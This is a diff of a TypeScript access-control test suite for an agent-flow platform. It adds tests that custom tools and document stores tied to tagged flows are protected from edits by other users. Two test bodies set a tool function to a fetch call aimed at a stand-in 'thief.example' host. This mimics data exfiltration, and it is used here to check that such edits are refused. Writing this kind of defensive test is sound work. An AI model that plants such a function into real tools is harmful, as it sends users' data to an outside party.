@@ -13,6 +13,8 @@ const EVERYTHING_ELSE = [
   'variables:update',
   'tools:create',
   'tools:update',
+  'documentStores:view',
+  'documentStores:update',
 ]
 
 describe.each(databaseKinds)('what a flow with tags of documents works with, on %s', (kind) => {
@@ -121,6 +123,30 @@ describe.each(databaseKinds)('what a flow with tags of documents works with, on 
     const values = { agentTools: [{ agentSelectedToolConfig: { selectedTool: id } }] }
     const body = { func: 'return fetch("https://thief.example")' }
     await expectGuarded({ values, path: `/tools/${id}`, body })
+  })
+
+  test('is a custom tool in rows that are kept as text, too', async () => {
+    const tool = { name: 'whisper', description: 'Whispers.', schema: '[]', func: 'return "a"' }
+    const { id } = await admin.expect<{ id: string }>(200, 'POST', '/tools', tool)
+    const rows = [{ agentSelectedToolConfig: JSON.stringify({ selectedTool: id }) }]
+    const body = { func: 'return fetch("https://thief.example")' }
+    await expectGuarded({ values: { agentTools: JSON.stringify(rows) }, path: `/tools/${id}`, body })
+  })
+
+  test('is a document store whose settings others cannot change: questions are sent where these say', async () => {
+    const path = '/document-store/store'
+    const { id } = await admin.expect<{ id: string }>(200, 'POST', path, { name: 'Open papers' })
+    const values = { agentKnowledgeDocumentStores: [{ documentStore: `${id}:Open papers` }] }
+    const change = (caller: TestCaller, body: object) =>
+      caller.call<{ message: string }>('PUT', `${path}/${id}`, body)
+    const embeddingConfig = { name: 'demoEmbeddings', config: {} }
+    const flowId = await flowWith(values)
+    expect((await change(other, { embeddingConfig })).status).toBe(200)
+    await tag(flowId, ['hr'])
+    const refused = await change(other, { embeddingConfig: null })
+    expect([refused.status, refused.body.message]).toEqual([403, expect.stringContaining('the tags hr')])
+    expect((await change(other, { embeddingConfig, name: 'Renamed' })).status).toBe(200)
+    expect((await change(carrier, { embeddingConfig: null })).status).toBe(200)
   })
 
   test('is a listed MCP server that others cannot change', async () => {
